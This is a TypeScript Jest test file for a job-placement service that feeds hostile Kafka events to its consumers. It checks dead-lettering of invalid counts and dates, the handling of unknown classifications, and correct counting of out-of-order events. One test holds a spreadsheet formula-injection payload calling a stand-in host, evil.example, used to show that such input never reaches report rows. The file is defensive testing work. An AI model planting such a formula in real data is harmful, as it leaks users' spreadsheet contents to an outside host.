import { randomUUID } from 'node:crypto';
import {
  PlacementRecorded,
  VacancyFilled,
  VacancyRegistered,
  type PlacementRecordedData,
  type VacancyFilledData,
  type VacancyRegisteredData,
} from '@siapkerja/contracts';
import { buildEvent, type BusMessage, type EventDefinition, type InboxConsumer } from '@siapkerja/events';
import { createServiceClient, type ServiceClient } from '@siapkerja/grpc';
import { startService, type RunningService } from '@siapkerja/service-kit';
import { asCaller, createTestDatabase, serviceTestEnv, testTopicPrefix } from '@siapkerja/testing';
import { placementService } from '../src/placement.module';

const ministry = asCaller({ sub: 'min', roles: ['MINISTRY_ADMIN'] });

/**
 * Events a buggy or hostile producer sends, handed to the placement consumers as Kafka delivers them (real PostgreSQL,
 * inbox, dead-letter topic): nothing that cannot be counted reaches the read models, what is dead-lettered says why at
 * the first attempt, a classification outside its code list is counted as unknown, and events out of order count right.
 */
describe('placement: hostile events', () => {
  let svc: RunningService;
  let client: ServiceClient<'placement'>;
  let drop: () => Promise<void>;
  let offset = 0;
  const deadLetters: BusMessage[] = [];
  const M = '2031-03';

  beforeAll(async () => {
    const db = await createTestDatabase('placement_hostile_events');
    drop = db.drop;
    svc = await startService(placementService, serviceTestEnv(db.url, { KAFKA_TOPIC_PREFIX: testTopicPrefix() }));
    client = createServiceClient('placement', `127.0.0.1:${svc.grpcPort}`);
    const publish = svc.bus.publish.bind(svc.bus);
    jest.spyOn(svc.bus, 'publish').mockImplementation(async (ms) => {
      deadLetters.push(...ms.filter((m) => m.topic.endsWith('.dlt')));
      return publish(ms);
    });
  });
  afterAll(async () => {
    client?.close();
    await svc?.stop();
    await drop?.();
  });

  const consumer = (name: string): InboxConsumer => svc.consumers.find((c) => c.name === `placement.${name}`)!;
  /** One event as Kafka hands it to the consumer: its outcome (processed, dead-lettered, ...). */
  const deliver = <T>(name: string, def: EventDefinition<T>, data: T, time?: Date) =>
    consumer(name).consume({
      topic: def.topic,
      key: randomUUID(),
      value: JSON.stringify(buildEvent(def, '/siapkerja/jobs', { subject: randomUUID(), data, ...(time ? { time } : {}) })),
      headers: {},
      partition: 0,
      offset: String(offset++),
    });
  const vacancy = (over: Partial<VacancyRegisteredData> = {}): VacancyRegisteredData => ({
    vacancyId: randomUUID(),
    employerId: randomUUID(),
    positionName: 'Tukang las',
    kbjiCode: '7212',
    regionCode: '33.73',
    numberNeeded: 3,
    validFrom: `${M}-01`,
    validUntil: `${M}-28`,
    state: 'PUBLISHED',
    registeredAt: `${M}-05T03:00:00.000Z`,
    ...over,
  });
  const hire = (over: Partial<PlacementRecordedData> = {}): PlacementRecordedData => ({
    applicationId: randomUUID(),
    vacancyId: randomUUID(),
    jobSeekerId: randomUUID(),
    personId: `p_${randomUUID().replace(/-/g, '')}`,
    employerId: randomUUID(),
    employerType: 'PRIVATE',
    kbjiCode: '7212',
    kbliCode: '25111',
    kbliMainGroup: '25',
    workRegionCode: '33.73',
    overseas: false,
    jobSeekerRegionCode: '33.73',
    sex: 1,
    educationLevel: 'SMK',
    ageBand: '20-29',
    channel: 'AKL',
    placedAt: `${M}-10T03:00:00.000Z`,
    ...over,
  });
  const form = async (region: string, month: string, code: string) =>
    (await client.getIpkForm({ regionCode: region, month, form: code }, ministry)).tables;
  const total = (t: { rows: { key: string; values: string[] }[] }) => t.rows.find((r) => r.key === 'TOTAL')!.values.map(Number);

  it('dead-letters at once, with the reason, a vacancy of -5 or 2.5 positions and a hire of the year 10000 (WIB), counting none', async () => {
    // Kota Magelang (33.71): no other test of this file writes there
    const before = deadLetters.length;
    expect(await deliver('ipk', VacancyRegistered, vacancy({ regionCode: '33.71', numberNeeded: -5 }))).toBe('dead-lettered');
    expect(await deliver('ipk', VacancyRegistered, vacancy({ regionCode: '33.71', numberNeeded: 2.5 }))).toBe('dead-lettered');
    expect(await deliver('reports', VacancyRegistered, vacancy({ regionCode: '33.71', numberNeeded: -5 }))).toBe('dead-lettered');
    expect(await deliver('placements', PlacementRecorded, hire({ jobSeekerRegionCode: '33.71', placedAt: '9999-12-31T20:00:00Z' }))).toBe(
      'dead-lettered',
    );
    const reasons = deadLetters.slice(before).map((m) => [m.headers['x-dlt-error'], m.headers['x-dlt-attempts']]);
    expect(reasons).toEqual([
      ['siapkerja.jobs.vacancy.registered: numberNeeded must be a whole number 1-100000', '1'],
      ['siapkerja.jobs.vacancy.registered: numberNeeded must be a whole number 1-100000', '1'],
      ['siapkerja.jobs.vacancy.registered: numberNeeded must be a whole number 1-100000', '1'],
      ['siapkerja.jobs.placement.recorded: placedAt must be a timestamp of the years 0001-9999', '1'],
    ]);
    const [, vacancies] = await form('33.71', M, 'III/1');
    expect(total(vacancies)).toEqual([0, 0, 0, 0, 0]);
    const report = await client.getVacancyReport({ regionCode: '33.71', month: M }, ministry);
    expect(report.positions).toBe('0');
    const rows = await svc.dataSource.query(`SELECT month FROM placements WHERE region_code = '33.71'`);
    expect(rows).toEqual([]);
  });

  it('counts a classification outside its code list as unknown: no producer text becomes a row of a form', async () => {
    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"klik")';
    expect(
      await deliver(
        'placements',
        PlacementRecorded,
        hire({ jobSeekerRegionCode: '33.72', educationLevel: formula, employerType: 'EVIL', kbliMainGroup: formula, ageBand: '7-8' }),
      ),
    ).toBe('processed');
    const [byChannel, byEducation, byEmployer] = await form('33.72', M, 'III/8');
    expect(total(byChannel)[2]).toBe(1);
    for (const t of [byEducation, byEmployer]) {
      expect(t.rows.map((r) => r.key)).not.toContain(formula);
      expect(t.rows.map((r) => r.key)).not.toContain('EVIL');
      expect(t.rows.find((r) => r.key === '')).toMatchObject({ label: 'Tidak diketahui' });
    }
    const [byKbli] = await form('33.72', M, 'III/7');
    // the main group of the KBLI code sent beside it (25111: 25)
    expect(byKbli.rows.map((r) => r.key)).toEqual(['25', 'TOTAL']);
  });

  it('counts a vacancy filled before its registration arrived: registered and closed in that month, never open afterwards', async () => {
    const v = vacancy({ regionCode: '33.74', numberNeeded: 3 });
    const filled: VacancyFilledData = {
      vacancyId: v.vacancyId,
      employerId: v.employerId,
      regionCode: v.regionCode,
      fromState: 'PUBLISHED',
      state: 'FILLED',
      numberNeeded: 3,
      kbjiCode: v.kbjiCode,
      numberHired: 2,
      filledAt: `${M}-20T03:00:00.000Z`,
    };
    expect(await deliver('ipk', VacancyFilled, filled)).toBe('processed');
    expect(await deliver('ipk', VacancyRegistered, v)).toBe('processed');
    // carried over, registered, filled, removed, remaining
    expect(total((await form('33.74', M, 'III/1'))[1])).toEqual([0, 3, 2, 1, 0]);
    expect(total((await form('33.74', '2031-04', 'III/1'))[1])).toEqual([0, 0, 0, 0, 0]);
  });
});
